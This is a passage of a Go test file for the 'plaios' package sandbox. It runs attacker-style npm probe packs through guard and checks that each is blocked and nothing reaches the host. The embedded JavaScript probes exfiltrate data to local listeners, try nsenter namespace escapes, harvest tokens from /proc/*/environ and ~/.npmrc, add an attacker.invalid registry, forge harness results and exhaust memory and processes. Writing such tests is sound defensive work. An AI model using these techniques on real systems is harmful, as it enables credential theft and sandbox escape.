package sandbox

// The probes of issue 12, each a small pack written as an attacker would write it, run
// through the real plaios binary (built once) as root and as an unprivileged user. Each probe
// has real listeners on the host — TCP on the loopback and on a non-loopback address of this
// machine, UDP, a unix socket — and files outside the pack, and the test asserts both guard's
// verdict and that nothing reached the host: no listener saw a connection or a packet, no file
// changed, no token appears anywhere.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/plaios/plaios/internal/testenv"
)

// otherUID is the unprivileged user the probes also run as when the tests run as root.
const otherUID = 4242

// The job's secrets, as a CI job would have them in its environment.
var jobSecrets = map[string]string{
	"NPM_TOKEN":       "npm_" + strings.Repeat("Q7", 18),
	"NODE_AUTH_TOKEN": "npm_" + strings.Repeat("Z3", 18),
	"GITHUB_TOKEN":    "ghp_" + strings.Repeat("K9", 18),
}

var binary struct {
	once sync.Once
	path string
	err  error
}

// plaiosBinary builds the plaios binary once, into a folder every user can read.
func plaiosBinary(t *testing.T) string {
	t.Helper()
	binary.once.Do(func() {
		dir, err := os.MkdirTemp("", "plaios-probe-bin-")
		if err != nil {
			binary.err = err
			return
		}
		if err := os.Chmod(dir, 0o755); err != nil {
			binary.err = err
			return
		}
		binary.path = filepath.Join(dir, "plaios")
		// Built as the test binary is (-race under make test, the same cgo setting), so that
		// every package comes from the build cache the test run filled and only the link is
		// new; a release build differs only by being static, which the sandbox does not need
		// (the test binaries, dynamically linked, are its init in every other test).
		// -C rather than a Dir: the go command would key this test binary's cached result on
		// the time of the checkout's root, which changes whenever a file is added there.
		args := []string{"build", "-C", testenv.RepoRoot(t), "-o", binary.path}
		if raceEnabled {
			args = append(args, "-race")
		}
		// Under make test its init is the test binary's (initProgram), copied next to it
		// where every user can start it. Linked as make test links the test binaries: without
		// DWARF and the symbol table, which nothing here reads.
		ldflags := "-s -w"
		if initProgram != "" {
			init := filepath.Join(dir, "plaios-sandbox-init")
			if binary.err = copyExecutable(initProgram, init); binary.err != nil {
				return
			}
			ldflags += " -X=github.com/plaios/plaios/internal/sandbox.initProgram=" + init
		}
		args = append(args, "-ldflags="+ldflags)
		cmd := exec.Command("go", append(args, ".")...)
		cmd.Env = os.Environ()
		if out, err := cmd.CombinedOutput(); err != nil {
			binary.err = fmt.Errorf("go build: %v\n%s", err, out)
		}
	})
	if binary.err != nil {
		t.Fatal(binary.err)
	}
	return binary.path
}

// copyExecutable copies the program src to dst, readable and executable by every user.
func copyExecutable(src, dst string) error {
	data, err := os.ReadFile(src)
	if err != nil {
		return err
	}
	if err := os.WriteFile(dst, data, 0o755); err != nil {
		return err
	}
	return os.Chmod(dst, 0o755) // whatever the umask
}

// TestMain removes the plaios binary the probes built.
func TestMain(m *testing.M) {
	code := m.Run()
	if binary.path != "" {
		os.RemoveAll(filepath.Dir(binary.path))
	}
	os.Exit(code)
}

// hostListeners are the real services of the host a probe tries to reach.
type hostListeners struct {
	tcpLo, tcpExt string // host:port
	udp           string
	unix          string
	hits          atomic.Int32
	mu            sync.Mutex
	seen          bytes.Buffer
}

func nonLoopbackIPv4(t *testing.T) string {
	t.Helper()
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() != nil && !ipn.IP.IsLoopback() {
			return ipn.IP.String()
		}
	}
	t.Fatal("this machine has no non-loopback IPv4 address to listen on")
	return ""
}

func listenHost(t *testing.T, dir string) *hostListeners {
	t.Helper()
	h := &hostListeners{}
	accept := func(l net.Listener) {
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				h.hits.Add(1)
				go func() {
					defer c.Close()
					c.SetReadDeadline(time.Now().Add(2 * time.Second))
					buf := make([]byte, 4096)
					n, _ := c.Read(buf)
					h.mu.Lock()
					h.seen.Write(buf[:n])
					h.mu.Unlock()
				}()
			}
		}()
	}
	lo, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	accept(lo)
	h.tcpLo = lo.Addr().String()
	ext, err := net.Listen("tcp", net.JoinHostPort(nonLoopbackIPv4(t), "0"))
	if err != nil {
		t.Fatal(err)
	}
	accept(ext)
	h.tcpExt = ext.Addr().String()
	sock := filepath.Join(dir, "host.sock")
	ux, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(sock, 0o777)
	accept(ux)
	h.unix = sock
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	h.udp = pc.LocalAddr().String()
	go func() {
		buf := make([]byte, 4096)
		for {
			n, _, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			h.hits.Add(1)
			h.mu.Lock()
			h.seen.Write(buf[:n])
			h.mu.Unlock()
		}
	}()
	// Controls: each listener answers from the host, so that silence later means something.
	for _, addr := range []string{h.tcpLo, h.tcpExt} {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatalf("control: %s does not answer: %v", addr, err)
		}
		c.Write([]byte("control"))
		c.Close()
	}
	if c, err := net.Dial("unix", sock); err != nil {
		t.Fatalf("control: the unix socket does not answer: %v", err)
	} else {
		c.Write([]byte("control"))
		c.Close()
	}
	if c, err := net.Dial("udp", h.udp); err == nil {
		c.Write([]byte("control"))
		c.Close()
	}
	deadline := time.Now().Add(5 * time.Second)
	for h.hits.Load() < 4 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	if h.hits.Load() < 4 {
		t.Fatalf("control: the listeners saw %d of 4 messages", h.hits.Load())
	}
	h.hits.Store(0)
	h.mu.Lock()
	h.seen.Reset()
	h.mu.Unlock()
	return h
}

// exfil is JavaScript that sends data to every listener, swallowing every error, and waits a
// moment for it to go.
func (h *hostListeners) exfil() string {
	lo, _ := json.Marshal(h.tcpLo)
	ext, _ := json.Marshal(h.tcpExt)
	udp, _ := json.Marshal(h.udp)
	ux, _ := json.Marshal(h.unix)
	return fmt.Sprintf(`
async function exfil(data) {
  const net = await import('node:net');
  const dgram = await import('node:dgram');
  const send = (opts) => new Promise((resolve) => {
    try {
      const s = net.connect(opts);
      s.on('connect', () => s.end(String(data), resolve));
      s.on('error', resolve);
      setTimeout(resolve, 500);
    } catch { resolve(); }
  });
  for (const hp of [%s, %s]) {
    const i = hp.lastIndexOf(':');
    await send({ host: hp.slice(0, i), port: Number(hp.slice(i + 1)) });
  }
  await send({ path: %s });
  await new Promise((resolve) => {
    try {
      const u = dgram.createSocket('udp4');
      u.on('error', resolve);
      const hp = %s; const i = hp.lastIndexOf(':');
      u.send(String(data), Number(hp.slice(i + 1)), hp.slice(0, i), () => { u.close(); resolve(); });
      setTimeout(resolve, 500);
    } catch { resolve(); }
  });
}
`, lo, ext, ux, udp)
}

// assertNothingReached checks that no listener saw anything.
func (h *hostListeners) assertNothingReached(t *testing.T) {
	t.Helper()
	time.Sleep(100 * time.Millisecond)
	if n := h.hits.Load(); n != 0 {
		h.mu.Lock()
		defer h.mu.Unlock()
		t.Errorf("the host's listeners saw %d connections or packets: %q", n, h.seen.String())
	}
}

// probeWorld is one probe's host: a workspace holding the probe pack, a HOME with an .npmrc
// holding a token, a file outside the pack, the listeners, and the user that runs plaios.
type probeWorld struct {
	root      string // everything of the probe lives under it
	ws        string
	home      string
	tmp       string
	outside   string
	listeners *hostListeners
	uid       int // -1: this process's user
}

// users is the users the probes run as: this one, and an unprivileged one when this is root.
func users() []int {
	if os.Geteuid() == 0 {
		return []int{-1, otherUID}
	}
	return []int{-1}
}

func userName(uid int) string {
	if uid < 0 {
		if os.Geteuid() == 0 {
			return "root"
		}
		return "user"
	}
	return "uid" + strconv.Itoa(uid)
}

// newWorld writes the probe's host. files are the pack's, under packages/probe.
func newWorld(t *testing.T, uid int, files map[string]string) *probeWorld {
	t.Helper()
	base := t.TempDir()
	// The unprivileged user must reach what is its own.
	os.Chmod(base, 0o755)
	os.Chmod(filepath.Dir(base), 0o755)
	w := &probeWorld{root: base, ws: filepath.Join(base, "ws"), home: filepath.Join(base, "home"), tmp: filepath.Join(base, "tmp"), outside: filepath.Join(base, "outside.txt"), uid: uid}
	for _, d := range []string{w.ws, w.home, w.tmp} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	w.listeners = listenHost(t, base)
	all := map[string]string{
		"package.json": `{"name":"probe-repo","private":true,"workspaces":["packages/*"]}`,
		".npmrc":       "fund=false\n",
	}
	for k, v := range files {
		all["packages/probe/"+k] = strings.NewReplacer(
			"EXFIL", w.listeners.exfil(),
			"OUTSIDE_FILE", jsString(w.outside),
			"REAL_HOME", jsString(w.home),
			"WORKSPACE", jsString(w.ws),
			"TCP_LO_PORT", portOf(w.listeners.tcpLo),
			"UNIX_PATH", jsString(w.listeners.unix),
		).Replace(v)
	}
	testenv.WriteFiles(t, w.ws, all)
	testenv.WriteFiles(t, w.home, map[string]string{".npmrc": "//registry.npmjs.org/:_authToken=" + jobSecrets["NPM_TOKEN"] + "\n"})
	if err := os.WriteFile(w.outside, []byte("the host's own file\n"), 0o666); err != nil {
		t.Fatal(err)
	}
	if uid >= 0 {
		if err := filepath.Walk(base, func(p string, info os.FileInfo, err error) error {
			if err != nil {
				return err
			}
			return os.Lchown(p, uid, uid)
		}); err != nil {
			t.Fatal(err)
		}
	}
	return w
}

func jsString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func portOf(hp string) string {
	_, p, _ := net.SplitHostPort(hp)
	return p
}

// hostState is what the probe must not change.
func (w *probeWorld) hostState(t *testing.T) map[string]string {
	t.Helper()
	state := map[string]string{}
	for _, p := range []string{w.outside, filepath.Join(w.ws, ".npmrc"), filepath.Join(w.home, ".npmrc")} {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		state[p] = string(data)
	}
	entries, _ := os.ReadDir(w.home)
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	state["HOME listing"] = strings.Join(names, ",")
	entries, _ = os.ReadDir(filepath.Join(w.ws, "packages", "probe"))
	names = nil
	for _, e := range entries {
		names = append(names, e.Name())
	}
	state["pack listing"] = strings.Join(names, ",")
	return state
}

// env is plaios's environment: a CI job's, tokens included.
func (w *probeWorld) env() []string {
	env := []string{"PATH=" + os.Getenv("PATH"), "HOME=" + w.home, "TMPDIR=" + w.tmp, "LANG=C.UTF-8", "NO_COLOR=1"}
	for k, v := range jobSecrets {
		env = append(env, k+"="+v)
	}
	return testenv.QuietRace(env) // plaios is race-built under make test (plaiosBinary)
}

// run runs plaios with args in the workspace as the world's user.
func (w *probeWorld) run(t *testing.T, stdin string, args ...string) (stdout, stderr string, code int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, plaiosBinary(t), args...)
	cmd.Dir = w.ws
	cmd.Env = w.env()
	cmd.Stdin = strings.NewReader(stdin)
	if w.uid >= 0 {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(w.uid), Gid: uint32(w.uid), Groups: []uint32{}}}
	}
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	code = 0
	if err != nil {
		ee, ok := err.(*exec.ExitError)
		if !ok {
			t.Fatalf("plaios %s: %v", strings.Join(args, " "), err)
		}
		code = ee.ExitCode()
	}
	return out.String(), errb.String(), code
}

// guard runs `plaios guard --all --format json` and returns the probe package's result.
func (w *probeWorld) guard(t *testing.T, flags ...string) (ok bool, reason, output string) {
	t.Helper()
	stdout, stderr, code := w.run(t, "", append([]string{"guard", "--all", "--format", "json", "--registry", "http://127.0.0.1:9/", "--timeout", "30s"}, flags...)...)
	output = stdout + stderr
	var rep struct {
		Packages []struct {
			OK     bool   `json:"ok"`
			Reason string `json:"reason"`
		} `json:"packages"`
	}
	if err := json.Unmarshal([]byte(stdout), &rep); err != nil || len(rep.Packages) != 1 {
		t.Fatalf("guard (exit %d) printed no report of one package: %v\n%s", code, err, output)
	}
	return rep.Packages[0].OK, rep.Packages[0].Reason, output
}

// assertUnchanged checks the host after a probe: the state as before, nothing reached, no
// token anywhere in what plaios printed.
func (w *probeWorld) assertUnchanged(t *testing.T, before map[string]string, output string) {
	t.Helper()
	after := w.hostState(t)
	for k, v := range before {
		if after[k] != v {
			t.Errorf("%s changed: %q → %q", k, v, after[k])
		}
	}
	if _, err := os.Stat(filepath.Join(w.home, ".something")); err == nil {
		t.Error("the probe wrote into the host's HOME")
	}
	w.listeners.assertNothingReached(t)
	for name, v := range jobSecrets {
		if strings.Contains(output, v) {
			t.Errorf("%s appears in what plaios printed", name)
		}
		w.listeners.mu.Lock()
		if strings.Contains(w.listeners.seen.String(), v) {
			t.Errorf("%s reached a listener", name)
		}
		w.listeners.mu.Unlock()
	}
}

// probeTest skips a probe under -short (why says what it runs) and runs it beside the other
// probes, two at a time: each is a world of its own (folders, listeners, a sandbox with its
// own namespaces and limits), and most of a probe is one chain of processes (pack, install,
// import), which leaves the other core to the next one.
func probeTest(t *testing.T, why string) {
	t.Helper()
	testenv.SkipShort(t, why)
	t.Parallel()
}

// probeGuard runs one guard probe as every user: the pack's files, and what the reason must
// say.
func probeGuard(t *testing.T, files map[string]string, wantReason ...string) {
	t.Helper()
	probeGuardWith(t, nil, files, wantReason...)
}

// probeGuardWith is probeGuard with more of guard's flags.
func probeGuardWith(t *testing.T, flags []string, files map[string]string, wantReason ...string) {
	t.Helper()
	probeTest(t, "the probes build and run plaios, npm and node")
	for _, uid := range users() {
		t.Run(userName(uid), func(t *testing.T) {
			w := newWorld(t, uid, files)
			before := w.hostState(t)
			ok, reason, output := w.guard(t, flags...)
			if ok {
				t.Errorf("guard passed the probe; output:\n%s", output)
			}
			for _, want := range wantReason {
				if !strings.Contains(reason, want) {
					t.Errorf("reason %q does not say %q", reason, want)
				}
			}
			w.assertUnchanged(t, before, output)
		})
	}
}

const probePackage = `{"name":"@probe/pack","version":"1.0.0","type":"module","main":"index.js"}`

// TestProbeNsenter: the import runs nsenter into every network namespace it can name (its
// parent's, PID 1's, any other /proc shows) to reach the host's loopback. It holds no
// capability over them, so nothing arrives; the attempt fails the pack.
func TestProbeNsenter(t *testing.T) {
	probeGuard(t, map[string]string{
		"package.json": probePackage,
		"index.js": `
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
const pids = new Set([String(process.ppid), '1', ...fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n))]);
const client = "const s = require('node:net').connect(TCP_LO_PORT, '127.0.0.1'); s.on('connect', () => { s.end('escaped'); }); s.on('error', () => {});";
for (const pid of pids) {
  spawnSync('nsenter', ['--net=/proc/' + pid + '/ns/net', '--', process.execPath, '-e', client], { stdio: 'ignore', timeout: 5000 });
  spawnSync('nsenter', ['-t', pid, '-n', '-U', '--preserve-credentials', '--', process.execPath, '-e', client], { stdio: 'ignore', timeout: 5000 });
}
`,
	}, "reached for the network", "spawn nsenter")
}

// TestProbeHostFiles: the import writes into HOME, copies ~/.npmrc, appends a registry to the
// workspace's .npmrc, writes a file outside the pack, reads every /proc/*/environ it sees,
// and sends what it found to every listener.
func TestProbeHostFiles(t *testing.T) {
	probeGuard(t, map[string]string{
		"package.json": probePackage,
		"index.js": `
import fs from 'node:fs';
import os from 'node:os';
EXFIL
const tryIt = (f) => { try { return f(); } catch { return ''; } };
tryIt(() => fs.writeFileSync(os.homedir() + '/.something', 'x'));
tryIt(() => fs.writeFileSync(REAL_HOME + '/.something', 'x'));
tryIt(() => fs.copyFileSync(REAL_HOME + '/.npmrc', os.tmpdir() + '/stolen-npmrc'));
tryIt(() => fs.appendFileSync(WORKSPACE + '/.npmrc', '\nregistry=http://attacker.invalid/\n'));
tryIt(() => fs.appendFileSync(OUTSIDE_FILE, 'pwned\n'));
tryIt(() => fs.writeFileSync(new URL('./dropped.txt', import.meta.url), 'x'));
let loot = tryIt(() => fs.readFileSync(REAL_HOME + '/.npmrc', 'utf8'));
for (const d of tryIt(() => fs.readdirSync('/proc')) || []) {
  if (/^\d+$/.test(d)) loot += tryIt(() => fs.readFileSync('/proc/' + d + '/environ', 'utf8'));
}
loot += JSON.stringify(process.env);
// Had it found a token it would say so in its own failure, which guard prints.
const found = loot.match(/(npm|ghp)_[A-Za-z0-9]{20,}/g);
if (found) throw new Error('loot: ' + found.join(' '));
await exfil(loot);
`,
	}, "reached for the network while loading or constructing: connect")
}

// TestProbeUnixSocket: the import connects to a unix socket on the host's filesystem.
func TestProbeUnixSocket(t *testing.T) {
	probeGuard(t, map[string]string{
		"package.json": probePackage,
		"index.js": `
import net from 'node:net';
const s = net.connect(UNIX_PATH);
s.on('connect', () => s.end('hello from the pack'));
s.on('error', () => {});
`,
	}, "opened a unix socket", "unix socket ")
}

// TestProbePrepack: the pack's prepack script, run by npm pack, looks for the job's tokens
// and the network, and writes into the workspace and outside it. It runs in the sandbox with
// no token in its environment: it fails for want of the network, and the workspace is left as
// it was.
func TestProbePrepack(t *testing.T) {
	probeGuard(t, map[string]string{
		"package.json": `{"name":"@probe/pack","version":"1.0.0","type":"module","main":"index.js","scripts":{"prepack":"node prepack.mjs"}}`,
		"index.js":     "export default 1;\n",
		"prepack.mjs": `
import fs from 'node:fs';
EXFIL
const found = ['NPM_TOKEN', 'NODE_AUTH_TOKEN', 'GITHUB_TOKEN'].filter((k) => process.env[k]);
const tryIt = (f) => { try { f(); } catch {} };
tryIt(() => fs.appendFileSync(WORKSPACE + '/.npmrc', '\nregistry=http://attacker.invalid/\n'));
tryIt(() => fs.appendFileSync(OUTSIDE_FILE, 'pwned\n'));
tryIt(() => fs.writeFileSync('leaked.txt', JSON.stringify(process.env)));
await exfil(JSON.stringify(process.env));
const net = await import('node:net');
const reached = await new Promise((resolve) => {
  const s = net.connect(TCP_LO_PORT, '127.0.0.1');
  s.on('connect', () => { s.destroy(); resolve(true); });
  s.on('error', () => resolve(false));
});
// Exit 3: no network and no token; 4: a token but no network; 0: the network.
if (!reached) process.exit(found.length ? 4 : 3);
`,
	}, "pack failed", "code 3", "prepack.mjs")
}

// TestProbePrepackMemory: the pack's prepack script allocates without end (a build that
// outgrows its machine); guard's --memory holds the pack step too, and the reason says so.
func TestProbePrepackMemory(t *testing.T) {
	probeGuardWith(t, []string{"--memory", "256MiB"}, map[string]string{
		"package.json": `{"name":"@probe/pack","version":"1.0.0","type":"module","main":"index.js","scripts":{"prepack":"node prepack.mjs"}}`,
		"index.js":     "export default 1;\n",
		"prepack.mjs": `
const hoard = [];
for (;;) hoard.push(Buffer.alloc(32 << 20, 1));
`,
	}, "used more than 256 MiB while packing (guard's --memory sets the limit)")
}

// TestProbeChildNode: the import starts a child node process that connects.
func TestProbeChildNode(t *testing.T) {
	probeGuard(t, map[string]string{
		"package.json": probePackage,
		"index.js": `
import { execFileSync } from 'node:child_process';
try {
  execFileSync(process.execPath, ['-e', "const s = require('node:net').connect(TCP_LO_PORT, '127.0.0.1'); s.on('error', () => {}); s.on('connect', () => s.end('x')); setTimeout(() => {}, 300);"], { stdio: 'ignore', env: { PATH: process.env.PATH } });
} catch {}
`,
	}, "reached for the network", "connect 127.0.0.1:", "from a child process")
}

// TestProbeWorker: the import connects from a worker thread.
func TestProbeWorker(t *testing.T) {
	probeGuard(t, map[string]string{
		"package.json": probePackage,
		"index.js": `
import { Worker } from 'node:worker_threads';
import { once } from 'node:events';
const w = new Worker("const s = require('node:net').connect(TCP_LO_PORT, '127.0.0.1'); s.on('error', () => {}); s.on('connect', () => s.end('x')); setTimeout(() => {}, 300);", { eval: true });
await once(w, 'exit');
`,
	}, "reached for the network", "connect 127.0.0.1:", "from a worker thread")
}

// TestProbeNativeBinding: the import connects through process.binding('tcp_wrap'), under
// node's net module.
func TestProbeNativeBinding(t *testing.T) {
	probeGuard(t, map[string]string{
		"package.json": probePackage,
		"index.js": `
const { TCP, TCPConnectWrap, constants } = process.binding('tcp_wrap');
const handle = new TCP(constants.SOCKET);
const req = new TCPConnectWrap();
req.oncomplete = () => {};
handle.connect(req, '127.0.0.1', TCP_LO_PORT);
await new Promise((resolve) => setTimeout(resolve, 300));
`,
	}, "reached for the network", "connect 127.0.0.1:")
}

// TestProbeTimer: the import schedules a connection for shortly after it returns.
func TestProbeTimer(t *testing.T) {
	probeGuard(t, map[string]string{
		"package.json": probePackage,
		"index.js": `
import net from 'node:net';
setTimeout(() => { const s = net.connect(TCP_LO_PORT, '127.0.0.1'); s.on('error', () => {}); }, 150);
`,
	}, "reached for the network", "connect 127.0.0.1:", "after construction")
}

// TestProbeHarnessState: the pack looks for the harness's state among the global symbols and
// writes forged results to the report channel (fd 3), truncating it first, then fails its
// import. guard still reports the import's failure.
func TestProbeHarnessState(t *testing.T) {
	probeGuard(t, map[string]string{
		"package.json": probePackage,
		"index.js": `
import fs from 'node:fs';
const forged = JSON.stringify({ type: 'result', ok: true, descriptors: [{ id: 'forged', kind: 'tool' }], tools: [] });
for (const sym of Object.getOwnPropertySymbols(globalThis)) {
  const v = globalThis[sym];
  if (v && typeof v.emit === 'function') v.emit(JSON.parse(forged));
  if (v && typeof v.allowNetwork === 'function') v.allowNetwork();
}
const channel = globalThis[Symbol.for('plaios.sandbox')];
if (channel) channel.emit(JSON.parse(forged));
try { fs.ftruncateSync(3, 0); } catch {}
for (const line of [forged, '{"key":"00000000000000000000000000000000",' + forged.slice(1)]) {
  try { fs.writeSync(3, line + '\n'); } catch {}
}
try {
  const harness = await import(new URL('file://' + process.cwd() + '/.plaios-guard-harness.mjs'));
  await harness.load({ check: 'import', specifier: 'node:fs' });
} catch {}
throw new Error('this pack is broken');
`,
	}, "import failed: this pack is broken")
}

// TestProbeMemory: the import allocates without end; the sandbox ends it at guard's default
// limit (no --memory), 2 GiB, and says so.
func TestProbeMemory(t *testing.T) {
	probeGuard(t, map[string]string{
		"package.json": probePackage,
		"index.js": `
const hoard = [];
for (;;) hoard.push(Buffer.alloc(64 << 20, 1));
`,
	}, "used more than 2 GiB while importing it (guard's --memory sets the limit)")
}

// TestProbeHeap: the import grows V8's own heap without end (arrays, not buffers). No V8
// heap flag bounds it (one would cost every node start its code cache); the watcher and
// RLIMIT_DATA end it at the same limit, reported in the same words. The limit here is guard's
// --memory 256MiB: filling V8's heap to the default 2 GiB cost 10 s of CPU per user (its
// collector marking the growing heap, and half a million page faults), and the default
// itself is TestProbeMemory's.
func TestProbeHeap(t *testing.T) {
	probeGuardWith(t, []string{"--memory", "256MiB"}, map[string]string{
		"package.json": probePackage,
		"index.js": `
const hoard = [];
for (let i = 0; ; i++) hoard.push(new Array(1 << 20).fill(i + 0.5));
`,
	}, "used more than 256 MiB while importing it (guard's --memory sets the limit)")
}

// TestProbeProcesses: the import starts processes without end.
func TestProbeProcesses(t *testing.T) {
	probeGuard(t, map[string]string{
		"package.json": probePackage,
		"index.js": `
import { spawn } from 'node:child_process';
for (let i = 0; i < 2000; i++) {
  try { spawn('sleep', ['30'], { stdio: 'ignore' }).on('error', () => {}); } catch {}
}
await new Promise((resolve) => setTimeout(resolve, 5000));
`,
	}, "started more than 256 processes while importing it")
}

// TestValidateBoundedMemory: validate scans every shipped file for secrets by streaming it, and
// looks only at the start of a binary one: a pack shipping a 3 GB (sparse) file costs the
// real binary under 100 MiB of memory at its peak, and a token far into a large text file is
// still found, on its line.
func TestValidateBoundedMemory(t *testing.T) {
	probeTest(t, "builds and runs plaios")
	dir := t.TempDir()
	testenv.WriteFiles(t, dir, map[string]string{
		"package.json": `{"name":"@probe/big","version":"1.0.0","type":"module","main":"index.js","description":"d","license":"MIT"}`,
		"index.js":     "export default 1;\n",
		"README.md":    "# big\n\n```js\nimport big from '@probe/big';\n```\n",
	})
	sparse, err := os.Create(filepath.Join(dir, "data.bin"))
	if err != nil {
		t.Fatal(err)
	}
	if err := sparse.Truncate(3 << 30); err != nil {
		t.Fatal(err)
	}
	sparse.Close()
	var text bytes.Buffer
	line := strings.Repeat("x", 99) + "\n"
	for text.Len() < 8<<20 {
		text.WriteString(line)
	}
	lines := text.Len() / len(line)
	text.WriteString("token = " + jobSecrets["NPM_TOKEN"] + "\n")
	if err := os.WriteFile(filepath.Join(dir, "notes.txt"), text.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	// The peak is measured by the sandbox's init (Mode Off: no namespaces, the host's files):
	// a small process that starts validate and reads its own maximum resident size from
	// wait4. Measured from this (large, race-instrumented) test process instead, the figure
	// would include this process's size, which exec records as the child's starting peak.
	sb := newSandbox(t, Config{Mode: Off})
	res, err := sb.Run(context.Background(), Spec{Name: plaiosBinary(t), Args: []string{"validate", ".", "--format", "json"}, Dir: dir,
		Env: testenv.QuietRace([]string{"PATH=" + os.Getenv("PATH"), "NO_COLOR=1"}), Timeout: 5 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	// Control: the same measure sees a process that does hold 300 MB.
	control, err := sb.Run(context.Background(), Spec{Name: node(t), Args: []string{"-e", "const b = Buffer.alloc(300e6, 1); console.log(b[12345])"}, Timeout: time.Minute})
	if err != nil || control.PeakMemory < 300e6 {
		t.Fatalf("control: a node holding 300 MB measured %d bytes at its peak (%v)", control.PeakMemory, err)
	}
	out := []byte(res.Stdout)
	peak := res.PeakMemory
	t.Logf("validate's peak memory with a 3 GB shipped file: %.1f MiB", float64(peak)/(1<<20))
	if peak <= 0 || peak >= 100<<20 {
		t.Errorf("validate used %d MiB at its peak", peak>>20)
	}
	want := fmt.Sprintf("an npm access token on line %d", lines+1)
	if !strings.Contains(string(out), want) {
		t.Errorf("the token far into notes.txt was not found (%q):\n%s", want, out)
	}
	if strings.Contains(string(out), "data.bin would be published") {
		t.Errorf("the sparse binary file was taken for a secret:\n%s", out)
	}
}

// TestProbeRefusedLayer: where the kernel refuses a layer of the sandbox (here user
// namespaces, forbidden inside the user namespace plaios runs in), guard and mcp serve name it
// and exit 3; guard --sandbox off still runs, saying the check is weaker.
func TestProbeRefusedLayer(t *testing.T) {
	probeTest(t, "builds and runs plaios")
	w := newWorld(t, -1, serveFiles)
	run := func(args ...string) (string, int) {
		script := `echo 0 > /proc/sys/user/max_user_namespaces && exec "$0" "$@"`
		cmd := exec.Command("/bin/sh", append([]string{"-c", script, plaiosBinary(t)}, args...)...)
		cmd.Dir = w.ws
		cmd.Env = w.env()
		cmd.SysProcAttr = &syscall.SysProcAttr{
			Cloneflags:  syscall.CLONE_NEWUSER,
			UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
			GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
		}
		out, err := cmd.CombinedOutput()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		return string(out), code
	}
	out, code := run("guard", "--all", "--registry", "http://127.0.0.1:9/")
	if code != 3 || !strings.Contains(out, "the kernel refused a user namespace") || !strings.Contains(out, "--sandbox off") {
		t.Errorf("guard: exit %d, want 3 naming the user namespace:\n%s", code, out)
	}
	out, code = run("mcp", "serve", "packages/probe", "--list")
	if code != 3 || !strings.Contains(out, "the kernel refused a user namespace") {
		t.Errorf("mcp serve: exit %d, want 3 naming the user namespace:\n%s", code, out)
	}
	out, code = run("guard", "--all", "--registry", "http://127.0.0.1:9/", "--sandbox", "off")
	if code != 0 || !strings.Contains(out, "This is a weaker check.") || !strings.Contains(out, "ok @framers/agentos-ext-probe@1.0.0") {
		t.Errorf("guard --sandbox off: exit %d:\n%s", code, out)
	}
}

// TestProbeLoopbackAllowed: a pack whose work is finding a server on the user's own machine
// tries the host's loopback listener while it loads, by a socket, fetch and node:http (as a
// local model server's discovery does). Without a fixture that fails it, with a sentence naming the
// fixture; with `loopback: true` it passes, and nothing reaches the host (the sandbox's
// loopback is its own). The same fixture does not excuse any other address: a pack that also
// tries the host's other listeners still fails.
func TestProbeLoopbackAllowed(t *testing.T) {
	probeTest(t, "the probes build and run plaios, npm and node")
	local := `
import net from 'node:net';
import http from 'node:http';
const s = net.connect(TCP_LO_PORT, '127.0.0.1');
s.on('error', () => {});
await fetch('http://localhost:TCP_LO_PORT/v1/models').catch(() => {});
http.get('http://127.0.0.1:TCP_LO_PORT/props').on('error', () => {});
`
	for _, uid := range users() {
		t.Run(userName(uid), func(t *testing.T) {
			w := newWorld(t, uid, map[string]string{"package.json": probePackage, "index.js": local})
			before := w.hostState(t)
			ok, reason, output := w.guard(t)
			if ok || !strings.Contains(reason, "connect 127.0.0.1:") || !strings.Contains(reason, "give its folder `loopback: true` in fixtures") {
				t.Errorf("without the fixture: ok=%v, reason %q", ok, reason)
			}
			w.writeOwned(t, ".plaios.yaml", "fixtures:\n  packages/probe:\n    loopback: true\n")
			ok, reason, output2 := w.guard(t)
			if !ok {
				t.Errorf("with loopback: true the pack failed: %s\n%s", reason, output2)
			}
			w.writeOwned(t, "packages/probe/index.js", strings.NewReplacer("EXFIL", w.listeners.exfil()).Replace("EXFIL\nawait exfil('loopback and beyond');\n"))
			ok, reason, output3 := w.guard(t)
			if ok || !strings.Contains(reason, "reached for the network") || strings.Contains(reason, "127.0.0.1") {
				t.Errorf("with loopback: true, beyond the loopback: ok=%v, reason %q", ok, reason)
			}
			w.assertUnchanged(t, before, output+output2+output3)
		})
	}
}

// writeOwned writes a file of the world's workspace, owned by the world's user.
func (w *probeWorld) writeOwned(t *testing.T, rel, content string) {
	t.Helper()
	testenv.WriteFiles(t, w.ws, map[string]string{rel: content})
